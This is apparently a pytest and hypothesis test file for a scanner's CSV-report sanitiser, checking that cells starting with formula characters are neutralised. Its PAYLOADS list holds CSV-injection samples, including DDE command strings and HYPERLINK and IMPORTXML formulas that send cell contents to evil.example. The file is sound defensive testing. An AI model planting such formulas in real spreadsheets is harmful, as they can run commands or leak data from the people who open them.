import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.report.formats.csv import csv_cell, harmless, json_cell, repeated_cell

# OWASP, "CSV Injection": what a cell must not begin with, and the full-width forms that some programs fold.
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    " =1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1+1",
    "\ufe66cmd",
)


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_no_cell_begins_as_a_formula_does(beginning: str) -> None:
    assert harmless(f"{beginning}1+1").startswith("'")
    assert harmless(beginning).startswith(("'", "\u2039"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_spreadsheets_were_attacked_with_is_text(payload: str) -> None:
    assert harmless(payload).startswith("'")
    assert payload.strip() in harmless(payload)


@pytest.mark.parametrize("between", [";", "; ", "\t", "\n", "\r\n", ";\u00a0"])
@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\uff1d"])
def test_what_is_cut_out_of_a_cell_is_no_formula_either(between: str, beginning: str) -> None:
    shown = harmless(f"a name{between}{beginning}cmd")
    cut = [part.strip() for part in shown.replace(";", "\n").replace("\t", "\n").split("\n")]
    assert not [part for part in cut if part.startswith(beginning)]


@pytest.mark.parametrize(
    "cell", ["", "a", "a=b", "billing-archive", "x -y", "\U0001f4be=", "\u05de=1", "1-2"]
)
def test_what_begins_no_formula_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\ufeff", "\x00", "\x1b"])
def test_what_hides_a_formula_is_seen(hidden: str) -> None:
    assert harmless(f"{hidden}=1") == f"\u2039U+{ord(hidden):04X}\u203a=1"


@given(st.text(max_size=20))
def test_whatever_the_text_it_comes_back_as_one_cell_without_a_formula(text: str) -> None:
    made = io.StringIO(newline="")
    csv.writer(made, lineterminator="\r\n").writerow([harmless(text), "next"])
    ((cell, following),) = csv.reader(io.StringIO(made.getvalue(), newline=""))
    assert following == "next"
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert made.getvalue().encode()


@given(st.text(alphabet="a,;\"'\n\r\t =é\u202e", max_size=12))
def test_a_cell_is_quoted_as_python_s_csv_module_does(text: str) -> None:
    made = io.StringIO(newline="")
    csv.writer(made, lineterminator="\r\n").writerow([harmless(text), "next"])
    assert f"{csv_cell(text)},next\r\n" == made.getvalue()
    assert repeated_cell(text) == csv_cell(text)


@given(st.dictionaries(st.text(max_size=8), st.text(max_size=8), max_size=3))
def test_tags_are_json_that_nothing_is_put_into(tags: dict[str, str]) -> None:
    cell = json_cell(tags)
    assert ";" not in cell
    if all(character.isprintable() for text in (*tags, *tags.values()) for character in text):
        assert harmless(cell) == cell
